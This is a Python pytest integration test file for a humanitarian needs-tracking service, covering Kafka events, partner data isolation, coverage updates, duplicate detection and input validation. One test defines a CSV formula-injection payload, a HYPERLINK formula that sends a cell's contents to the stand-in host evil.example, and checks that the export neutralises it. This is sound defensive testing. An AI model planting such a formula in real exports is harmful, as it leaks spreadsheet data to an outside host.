"""The needs service through the real store and broker: events out through the outbox,
coverage in from distribution's topic, isolation between partners (Idempotency-Key:
test_needs_request_keys)."""

from __future__ import annotations

import copy
import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import pytest
from kitflow_shared.contracts.distribution import (
    NEED_COVERAGE_CHANGED as DISTRIBUTION_COVERAGE,
)
from kitflow_shared.contracts.distribution import (
    ItemCoverage,
    NeedCoverageState,
    need_coverage_subject,
)
from kitflow_shared.contracts.needs import NEED_COVERAGE_CHANGED, NEED_SUBMITTED, NEED_VALIDATED
from kitflow_shared.events import CloudEvent, EventContext
from kitflow_shared.messaging.consumer import dead_letter_headers
from kitflow_shared.messaging.producer import EventProducer
from kitflow_shared.topics import DISTRIBUTION_EVENTS, NEEDS_EVENTS, NEEDS_GROUP
from kitflow_shared.web.identity import Role
from pymongo import AsyncMongoClient

from tests.support.infra import Infra
from tests.support.kafka import eventually, read_topic
from tests.support.needs_app import NeedsApp, running_needs
from tests.support.services import identity
from tests.unit.needs.builders import CREATE_BODY

pytestmark = pytest.mark.infra

NRC = identity("NRC", Role.PARTNER)
DRC = identity("DRC", Role.PARTNER)
COORDINATOR = identity("OCHA", Role.COORDINATOR)


@pytest.fixture
async def needs(
    infra: Infra,
    topics: str,
    monkeypatch: pytest.MonkeyPatch,
    store_client: AsyncMongoClient[dict[str, Any]],
) -> AsyncIterator[NeedsApp]:
    async with running_needs(infra, topics, monkeypatch, store_client) as running:
        yield running


def body(**changes: Any) -> dict[str, Any]:
    out = copy.deepcopy(CREATE_BODY)
    out.update(changes)
    return out


def events_of(records: list[Any], subject: str) -> list[CloudEvent]:
    events = [CloudEvent.from_bytes(r.value) for r in records]
    return [e for e in events if e.subject == subject]


async def test_a_submitted_need_is_published_with_what_a_planner_needs(
    needs: NeedsApp, infra: Infra, topics: str
) -> None:
    created = await needs.client.post("/v1/needs", json=body(), headers=NRC)
    assert created.status_code == 201, created.text
    need_id = created.json()["id"]
    records = await read_topic(infra.kafka_bootstrap, NEEDS_EVENTS.qualified(topics), expect=1)
    [event] = events_of(records, f"need/{need_id}")
    assert records[0].key == f"need/{need_id}".encode()
    assert event.type == NEED_SUBMITTED.type
    assert event.sequence == 1
    state = NEED_SUBMITTED.parse(event)
    assert (state.organisation, state.status, state.severity) == ("NRC", "submitted", 4)
    assert (state.admin1_pcode, state.admin2_pcode) == ("ML05", "ML0501")
    assert state.location is not None
    assert state.population.individuals == 640
    assert {(i.item_code, i.remaining) for i in state.items} == {
        ("KIT-NFI", 120),
        ("JERRYCAN-20L", 240),
    }
    # The relay pruned what it published.
    await eventually(
        lambda: needs.needs.count_documents({"outbox.0": {"$exists": True}}),
        lambda n: n == 0,
        what="an empty outbox",
    )


async def test_partners_see_their_own_needs_and_never_another_organisations(
    needs: NeedsApp,
) -> None:
    mine = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()
    wrong = await needs.client.get(f"/v1/needs/{mine['id']}", headers=DRC)
    assert wrong.status_code == 404
    assert "Sévaré" not in wrong.text
    right = await needs.client.get(f"/v1/needs/{mine['id']}", headers=NRC)
    assert right.status_code == 200
    assert right.json()["location"]["site_name"] == "Sévaré 2"
    cancel = await needs.client.post(
        f"/v1/needs/{mine['id']}/cancel", json={"reason": "not ours"}, headers=DRC
    )
    assert cancel.status_code == 404
    assert (await needs.client.get("/v1/needs", headers=DRC)).json()["total"] == 0
    stored = await needs.needs.find_one({"_id": mine["id"]})
    assert stored is not None
    assert stored["status"] == "submitted"


async def test_coverage_from_distribution_moves_the_need_to_covered_exactly_once(
    needs: NeedsApp, infra: Infra, topics: str, producer: EventProducer
) -> None:
    need = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()
    need_id = need["id"]
    validated = await needs.client.post(f"/v1/needs/{need_id}/validate", headers=COORDINATOR)
    assert validated.json()["status"] == "validated"

    def coverage(seq: int, kits: int, jerrycans: int, delivered: bool) -> CloudEvent:
        state = NeedCoverageState(
            need_id=need_id,
            organisation="NRC",
            items=[
                ItemCoverage(
                    item_code=code,
                    planned=qty,
                    reserved=0 if delivered else qty,
                    dispatched=qty if delivered else 0,
                    delivered=qty if delivered else 0,
                )
                for code, qty in (("KIT-NFI", kits), ("JERRYCAN-20L", jerrycans))
            ],
            households_reached=120 if delivered else 0,
            individuals_reached=640 if delivered else 0,
        )
        return DISTRIBUTION_COVERAGE.new(
            state,
            subject=need_coverage_subject(need_id),
            sequence=seq,
            context=EventContext.new(),
        )

    topic = DISTRIBUTION_EVENTS.qualified(topics)
    planned = coverage(1, 120, 100, delivered=False)
    await producer.publish(topic, [planned, planned])  # a redelivery
    await eventually(
        lambda: needs.client.get(f"/v1/needs/{need_id}", headers=NRC),
        lambda r: r.json()["status"] == "partially-covered",
        what="partially covered",
    )
    await producer.publish(topic, [coverage(2, 120, 240, delivered=True), planned])  # + a stale one
    done = await eventually(
        lambda: needs.client.get(f"/v1/needs/{need_id}", headers=NRC),
        lambda r: r.json()["status"] == "covered",
        what="covered",
    )
    need = done.json()
    assert need["households_reached"] == 120
    assert {i["item_code"]: i["delivered"] for i in need["items"]} == {
        "KIT-NFI": 120,
        "JERRYCAN-20L": 240,
    }
    records = await read_topic(infra.kafka_bootstrap, NEEDS_EVENTS.qualified(topics), expect=4)
    events = events_of(records, f"need/{need_id}")
    assert [e.type for e in events] == [
        NEED_SUBMITTED.type,
        NEED_VALIDATED.type,
        NEED_COVERAGE_CHANGED.type,
        NEED_COVERAGE_CHANGED.type,
    ]
    assert [e.sequence for e in events] == [1, 2, 3, 4]
    assert NEED_COVERAGE_CHANGED.parse(events[-1]).status == "covered"
    assert events[2].causationid == planned.id
    stored = await needs.needs.find_one({"_id": need_id})
    assert stored is not None
    assert stored["coverage_sequence"] == 2


async def test_coverage_that_breaks_its_contract_is_parked_and_the_rest_applied(
    needs: NeedsApp, infra: Infra, topics: str, producer: EventProducer
) -> None:
    need_id = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()["id"]
    good = DISTRIBUTION_COVERAGE.new(
        NeedCoverageState(
            need_id=need_id,
            organisation="NRC",
            items=[
                ItemCoverage(item_code="KIT-NFI", planned=5, reserved=0, dispatched=0, delivered=0)
            ],
        ),
        subject=need_coverage_subject(need_id),
        sequence=1,
        context=EventContext.new(),
    )
    poison = good.model_copy(update={"data": {"need_id": need_id}, "id": "poison-1"})
    topic = DISTRIBUTION_EVENTS.qualified(topics)
    key = need_coverage_subject(need_id).encode()
    await producer.publish_raw(topic, poison.to_bytes(), key, [])
    await producer.publish_raw(topic, good.to_bytes(), key, [])
    await eventually(
        lambda: needs.needs.find_one({"_id": need_id}),
        lambda doc: doc is not None and doc.get("coverage_sequence") == 1,
        what="the good coverage applied",
    )
    parked = await read_topic(
        infra.kafka_bootstrap, NEEDS_GROUP.dead_letter.qualified(topics), expect=1
    )
    assert len(parked) == 1
    assert dead_letter_headers(parked[0].headers)["kitflow-dlq-reason"] == (
        "payload breaks its contract"
    )


async def test_two_partners_reporting_the_same_need_are_linked_to_each_other(
    needs: NeedsApp,
) -> None:
    first = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()
    second = (await needs.client.post("/v1/needs", json=body(), headers=DRC)).json()
    assert [d["need_id"] for d in second["possible_duplicates"]] == [first["id"]]
    again = (await needs.client.get(f"/v1/needs/{first['id']}", headers=NRC)).json()
    assert [d["need_id"] for d in again["possible_duplicates"]] == [second["id"]]
    flagged = (await needs.client.get("/v1/needs?duplicates=true", headers=COORDINATOR)).json()
    assert flagged["total"] == 2
    kept = await needs.client.post(
        f"/v1/needs/{first['id']}/duplicates/{second['id']}/keep", headers=COORDINATOR
    )
    assert kept.json()["possible_duplicates"][0]["decision"] == "kept"
    flagged = (await needs.client.get("/v1/needs?duplicates=true", headers=COORDINATOR)).json()
    assert flagged["total"] == 0


async def test_a_back_link_that_a_crash_left_undone_is_completed_by_the_service(
    infra: Infra,
    topics: str,
    monkeypatch: pytest.MonkeyPatch,
    store_client: AsyncMongoClient[dict[str, Any]],
) -> None:
    from kitflow_needs.adapters.mongo_needs import MongoNeedRepository

    monkeypatch.setenv("KITFLOW_NEEDS_BACK_LINKS_INTERVAL_S", "0.2")
    async with running_needs(infra, topics, monkeypatch, store_client) as needs:
        first = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()["id"]
        real = MongoNeedRepository.get_many

        async def died(*_args: object) -> None:
            raise RuntimeError("the process died after storing the new need")

        # It dies before reading the needs to link back to.
        monkeypatch.setattr(MongoNeedRepository, "get_many", died)
        with pytest.raises(RuntimeError):
            await needs.client.post("/v1/needs", json=body(), headers=DRC)
        [second] = [d async for d in needs.needs.find({"organisation": "DRC"})]
        assert second["owes_back_links"] is True
        held = await needs.needs.find_one({"_id": first})
        assert held is not None
        assert held["duplicates"] == []

        monkeypatch.setattr(MongoNeedRepository, "get_many", real)  # the service restarted
        linked = await eventually(
            lambda: needs.needs.find_one({"_id": first}),
            lambda doc: doc is not None and bool(doc["duplicates"]),
            what="the back-link on the first need",
        )
        assert [d["need_id"] for d in linked["duplicates"]] == [second["_id"]]
        done = await eventually(
            lambda: needs.needs.find_one({"_id": second["_id"]}),
            lambda doc: doc is not None and doc["owes_back_links"] is False,
            what="the mark cleared",
        )
        assert done["sequence"] == second["sequence"]


# ---- issue 12: exports that stay data, bad input that is a 422, what partners see -------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sévaré")'
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_a_formula_in_a_need_comes_out_of_the_export_as_text_and_reads_back(
    needs: NeedsApp,
) -> None:
    given = body(external_ref="@SUM(1+1)")
    given["location"]["site_name"] = FORMULA
    given["assessment"]["reference"] = "-2+3"
    created = await needs.client.post("/v1/needs", json=given, headers=NRC)
    assert created.status_code == 201, created.text

    exported = await needs.client.get("/v1/needs/export.csv", headers=NRC)
    assert exported.status_code == 200, exported.text
    _, tags, *rows = csv_rows(exported.text)
    assert rows
    for row in rows:
        for tag, cell in zip(tags, row, strict=True):
            assert is_number(cell) or not cell.startswith(FORMULA_PREFIXES), (tag, cell)
    site = tags.index("#loc+name")
    assert {row[site] for row in rows} == {"'" + FORMULA}
    assert {row[tags.index("#meta+ref")] for row in rows} == {"'@SUM(1+1)"}

    # Our own import reads the neutralised cell back as the text the partner typed.
    imported = await needs.client.post(
        "/v1/needs/imports", content=exported.text, headers={**NRC, "Content-Type": "text/csv"}
    )
    assert imported.status_code == 200, imported.text
    [again] = imported.json()["created"]
    reread = (await needs.client.get(f"/v1/needs/{again}", headers=NRC)).json()
    assert reread["location"]["site_name"] == FORMULA
    assert reread["assessment"]["reference"] == "-2+3"


TEXT_FIELDS = [
    ("location", "site_name"),
    ("location", "admin1_name"),
    ("location", "admin2_name"),
    ("location", "admin1_pcode"),
    ("location", "admin2_pcode"),
    ("location", "admin3_pcode"),
    ("assessment", "reference"),
    (None, "external_ref"),
]


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b"])
async def test_a_control_character_in_any_text_field_is_a_422_naming_it(
    needs: NeedsApp, character: str
) -> None:
    for part, name in TEXT_FIELDS:
        given = body()
        where = given[part] if part else given
        where[name] = f"Sévaré{character}2" if "pcode" not in name else f"ML05{character}"
        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
        path = f"body.{part}.{name}" if part else f"body.{name}"
        assert response.status_code == 422, (path, response.status_code, response.text)
        assert path in [e["field"] for e in response.json()["errors"]], response.text
    for path, given in (
        ("body.items.0.item_code", body(items=[{"item_code": "KIT\x00NFI", "quantity": 1}])),
        ("body.norms.profile_id", body(norms={"profile_id": "sphere\x00minimum"})),
    ):
        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
        assert response.status_code == 422, (path, response.text)
        assert path in [e["field"] for e in response.json()["errors"]], response.text
    assert await needs.needs.count_documents({}) == 0

    need_id = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()["id"]
    for action, caller in (("reject", COORDINATOR), ("cancel", NRC)):
        response = await needs.client.post(
            f"/v1/needs/{need_id}/{action}",
            json={"reason": f"wrong{character}site"},
            headers=caller,
        )
        assert response.status_code == 422, (action, response.text)
        assert [e["field"] for e in response.json()["errors"]] == ["body.reason"]
    held = (await needs.client.get(f"/v1/needs/{need_id}", headers=NRC)).json()
    assert held["status"] == "submitted"


COUNTS = [
    ("population", "households"),
    ("population", "individuals"),
    ("population", "women"),
    ("population", "men"),
    ("population", "girls"),
    ("population", "boys"),
    ("population", "elderly"),
    ("population", "disabled"),
    (None, "severity"),
]


@pytest.mark.parametrize("huge", [2**63, 2**64, 10**30])
async def test_counts_of_two_to_the_sixty_three_and_more_are_a_422_naming_the_field(
    needs: NeedsApp, huge: int
) -> None:
    for part, name in COUNTS:
        given = body()
        if part == "population":
            # Households no more than individuals, so only the size itself is wrong.
            given["population"] = {"households": 1, "individuals": huge, name: huge}
        else:
            given[name] = huge
        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
        path = f"body.{part}.{name}" if part else f"body.{name}"
        assert response.status_code == 422, (path, response.status_code, response.text)
        assert path in [e["field"] for e in response.json()["errors"]], response.text
    for path, given in (
        ("body.items.0.quantity", body(items=[{"item_code": "KIT-NFI", "quantity": huge}])),
        (
            "body.norms.duration_days",
            body(norms={"profile_id": "sphere-minimum", "duration_days": huge}),
        ),
    ):
        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
        assert response.status_code == 422, (path, response.status_code, response.text)
        assert path in [e["field"] for e in response.json()["errors"]], response.text
    preview = await needs.client.post(
        "/v1/norms-profiles/sphere-minimum/calculate",
        json={"population": {"households": huge, "individuals": huge}},
        headers=NRC,
    )
    assert preview.status_code == 422, preview.text
    assert await needs.needs.count_documents({}) == 0


async def test_dates_out_of_range_are_a_422_naming_the_field(needs: NeedsApp) -> None:
    late = body()
    late["assessment"]["date"] = "9999-12-31"
    early = body(period={"start": "0001-01-01", "end": "0001-01-02"})
    for path, given in (("body.assessment.date", late), ("body.period.start", early)):
        response = await needs.client.post("/v1/needs", json=given, headers=NRC)
        assert response.status_code == 422, (path, response.status_code, response.text)
        assert path in [e["field"] for e in response.json()["errors"]], response.text
    assert await needs.needs.count_documents({}) == 0


BAD_ROWS_FILE = (
    "Ref,Admin1,Admin2,Site,Households,People,Status,Severity,Assessed,Item,Qty\n"
    "#meta+id,#adm1+code,#adm2+code,#loc+name,#affected+hh,#affected+ind,#beneficiary+type,"
    "#severity,#date+reported,#item+code,#item+num\n"
    "A1,ML05,ML0501,Sévaré 2,120,640,idp,4,2025-03-01,KIT-NFI,120\n"
    "A2,ML05,ML0501,Sévaré\x003,10,50,idp,3,2025-03-01,KIT-NFI,10\n"
    f"A3,ML05,ML0501,Sévaré 4,{2**63},{2**63},idp,3,2025-03-01,KIT-NFI,10\n"
    f"A4,ML05,ML0501,Sévaré 5,10,50,idp,3,2025-03-01,KIT-NFI,{2**64}\n"
    "A5,ML05,ML0501,Sévaré 6,10,50,idp,3,2025-03-01,KIT-NFI,1e300\n"
    "A6,ML05,ML0501,Sévaré 7,10,50,idp,3,9999-12-31,KIT-NFI,10\n"
    f"A7,ML05,ML0501,Sévaré 8,10,50,idp,{2**63},2025-03-01,KIT-NFI,10\n"
    "A8,ML05,ML0501,Sévaré 9,10,50,idp\x07,3,2025-03-01,KIT-NFI,10\n"
)


async def test_a_bad_row_of_an_import_is_reported_by_row_and_column_not_a_500(
    needs: NeedsApp,
) -> None:
    response = await needs.client.post(
        "/v1/needs/imports", content=BAD_ROWS_FILE, headers={**NRC, "Content-Type": "text/csv"}
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["rows"], report["imported"], report["rejected"]) == (8, 1, 7)
    columns: dict[int, set[str]] = {}
    for error in report["errors"]:
        columns.setdefault(error["row"], set()).add(error["column"])
    assert columns == {
        4: {"#loc+name"},
        5: {"#affected+hh", "#affected+ind"},
        6: {"#item+num"},
        7: {"#item+num"},
        8: {"#date+reported"},
        9: {"#severity"},
        10: {"#beneficiary+type"},
    }, report["errors"]
    assert all(e["reason"] for e in report["errors"])
    assert await needs.needs.count_documents({}) == 1


def _nearby_need_of_another_partner() -> dict[str, Any]:
    """Less than 1 km from CREATE_BODY's site, under another name, for a later and longer
    period, with one item in common: a possible duplicate of it."""
    return body(
        location={
            "admin1_pcode": "ML05",
            "admin2_pcode": "ML0501",
            "site_name": "Camp Sévaré-Nord",
            "coordinates": {"lat": 14.531, "lon": -4.091},
        },
        period={"start": "2025-03-10", "end": "2025-04-30"},
        items=[
            {"item_code": "KIT-NFI", "quantity": 50},
            {"item_code": "BLANKET", "quantity": 100},
        ],
    )


async def test_a_partner_learns_whom_to_talk_to_about_a_duplicate_not_the_other_need(
    needs: NeedsApp,
) -> None:
    nrc = (await needs.client.post("/v1/needs", json=body(), headers=NRC)).json()
    created = await needs.client.post(
        "/v1/needs", json=_nearby_need_of_another_partner(), headers=DRC
    )
    assert created.status_code == 201, created.text
    drc = created.json()
    # What only NRC's need says: its site's name, the end of its period, what it asked for.
    nrc_secrets = ("Sévaré 2", "2025-03-30", "KIT-NFI", "JERRYCAN")
    drc_secrets = ("Camp Sévaré-Nord", "2025-04-30", "BLANKET", "KIT-NFI")

    seen_by_drc = [
        created.json(),
        (await needs.client.get(f"/v1/needs/{drc['id']}", headers=DRC)).json(),
        (await needs.client.get("/v1/needs", headers=DRC)).json()["items"][0],
    ]
    for need in seen_by_drc:
        [link] = need["possible_duplicates"]
        assert (link["need_id"], link["organisation"]) == (nrc["id"], "NRC")
        assert "NRC" in link["reason"]
        for secret in nrc_secrets:
            assert secret not in link["reason"], link["reason"]
    [back] = (await needs.client.get(f"/v1/needs/{nrc['id']}", headers=NRC)).json()[
        "possible_duplicates"
    ]
    assert back["organisation"] == "DRC"
    for secret in drc_secrets:
        assert secret not in back["reason"], back["reason"]

    # Coordinators see why the two were flagged.
    [full] = (await needs.client.get(f"/v1/needs/{drc['id']}", headers=COORDINATOR)).json()[
        "possible_duplicates"
    ]
    assert "Sévaré 2" in full["reason"]
    assert "KIT-NFI" in full["reason"]


async def test_a_cluster_may_show_partners_the_details_of_a_possible_duplicate(
    infra: Infra,
    topics: str,
    monkeypatch: pytest.MonkeyPatch,
    store_client: AsyncMongoClient[dict[str, Any]],
) -> None:
    monkeypatch.setenv("KITFLOW_NEEDS_DUPLICATE_DETAILS_FOR_PARTNERS", "true")
    async with running_needs(infra, topics, monkeypatch, store_client) as needs:
        await needs.client.post("/v1/needs", json=body(), headers=NRC)
        drc = await needs.client.post(
            "/v1/needs", json=_nearby_need_of_another_partner(), headers=DRC
        )
        [link] = drc.json()["possible_duplicates"]
        assert "Sévaré 2" in link["reason"]
        assert "KIT-NFI" in link["reason"]


STOCKABLE = ["KIT-NFI", "SOAP-BATH-250G", "JERRYCAN-20L"]


async def test_a_partner_chooses_which_rules_of_a_profile_apply(needs: NeedsApp) -> None:
    chosen = body(items=[], norms={"profile_id": "sphere-minimum", "rules": STOCKABLE})
    created = await needs.client.post("/v1/needs", json=chosen, headers=NRC)
    assert created.status_code == 201, created.text
    need = created.json()
    assert {i["item_code"] for i in need["items"]} == set(STOCKABLE)
    for item in need["items"]:
        calculation = item["calculation"]
        assert calculation["formula"].endswith(f"= {item['requested']}")
        assert calculation["basis_count"] in (120, 640)
    assert sorted(need["norms"]["rules"]) == sorted(STOCKABLE)  # in the profile's order
    assert {c["item_code"] for c in need["norms"]["calculations"]} == set(STOCKABLE)

    unknown = await needs.client.post(
        "/v1/needs",
        json=body(items=[], norms={"profile_id": "sphere-minimum", "rules": ["KIT-NFI", "TENT"]}),
        headers=NRC,
    )
    assert unknown.status_code == 422, unknown.text
    [problem] = unknown.json()["errors"]
    assert problem["field"] == "body.norms.rules.1"
    assert "sphere-minimum has no rule for TENT" in problem["reason"]
    assert "WATER-L" in problem["reason"]  # the rules it has

    preview = await needs.client.post(
        "/v1/norms-profiles/sphere-minimum/calculate",
        json={"population": {"households": 120, "individuals": 640}, "rules": ["KIT-NFI"]},
        headers=NRC,
    )
    assert preview.status_code == 200, preview.text
    [line] = preview.json()["calculations"]
    assert (line["item_code"], line["quantity"]) == ("KIT-NFI", 120)
    assert line["formula"] == "ceil(120 households * 1 kit per household) = 120"
    wrong = await needs.client.post(
        "/v1/norms-profiles/sphere-minimum/calculate",
        json={"population": {"households": 120, "individuals": 640}, "rules": ["TENT"]},
        headers=NRC,
    )
    assert wrong.status_code == 422, wrong.text
    assert [e["field"] for e in wrong.json()["errors"]] == ["body.rules.0"]

    # The export says which rules were chosen, so the need reads back without the others.
    exported = (await needs.client.get("/v1/needs/export.csv", headers=NRC)).text
    reimported = await needs.client.post(
        "/v1/needs/imports", content=exported, headers={**NRC, "Content-Type": "text/csv"}
    )
    assert reimported.status_code == 200, reimported.text
    [again] = reimported.json()["created"]
    reread = (await needs.client.get(f"/v1/needs/{again}", headers=NRC)).json()
    assert {i["item_code"]: i["requested"] for i in reread["items"]} == {
        i["item_code"]: i["requested"] for i in need["items"]
    }


RULES_FILE = (
    "Ref,Admin1,Admin2,Site,Households,People,Status,Severity,Assessed,Norms,Rules\n"
    "#meta+id,#adm1+code,#adm2+code,#loc+name,#affected+hh,#affected+ind,#beneficiary+type,"
    "#severity,#date+reported,#meta+norms,#meta+rules\n"
    "R1,ML05,ML0501,Sévaré 2,120,640,idp,4,2025-03-01,sphere-minimum,KIT-NFI SOAP-BATH-250G\n"
    "R2,ML05,ML0501,Sévaré 3,10,50,idp,3,2025-03-01,sphere-minimum,\n"
    'R3,ML05,ML0501,Sévaré 4,10,50,idp,3,2025-03-01,sphere-minimum,"KIT-NFI, TENT"\n'
)
PLAIN_FILE = (
    "#meta+id,#adm1+code,#adm2+code,#affected+hh,#affected+ind,#beneficiary+type,#severity,"
    "#date+reported\n"
    "P1,ML05,ML0501,10,50,idp,3,2025-03-01\n"
)


async def test_an_import_chooses_a_profiles_rules_per_row_or_for_the_whole_file(
    needs: NeedsApp,
) -> None:
    csv_nrc = {**NRC, "Content-Type": "text/csv"}
    response = await needs.client.post("/v1/needs/imports", content=RULES_FILE, headers=csv_nrc)
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["imported"], report["rejected"]) == (2, 1)
    [error] = report["errors"]
    assert (error["row"], error["column"]) == (5, "#meta+rules")
    assert "sphere-minimum has no rule for TENT" in error["reason"]
    items = {}
    for need_id in report["created"]:
        need = (await needs.client.get(f"/v1/needs/{need_id}", headers=NRC)).json()
        items[need["external_ref"]] = {i["item_code"] for i in need["items"]}
    assert items["R1"] == {"KIT-NFI", "SOAP-BATH-250G"}
    assert {"WATER-L", "COVERED-SPACE-M2"} <= items["R2"]  # no choice: every rule

    whole = await needs.client.post(
        "/v1/needs/imports?profile=sphere-minimum&rules=KIT-NFI&rules=JERRYCAN-20L",
        content=PLAIN_FILE,
        headers=csv_nrc,
    )
    assert whole.status_code == 200, whole.text
    [need_id] = whole.json()["created"]
    need = (await needs.client.get(f"/v1/needs/{need_id}", headers=NRC)).json()
    assert {i["item_code"] for i in need["items"]} == {"KIT-NFI", "JERRYCAN-20L"}

    refused = await needs.client.post(
        "/v1/needs/imports?profile=sphere-minimum&rules=TENT", content=PLAIN_FILE, headers=csv_nrc
    )
    assert refused.status_code == 422, refused.text
    assert [e["field"] for e in refused.json()["errors"]] == ["query.rules.0"]
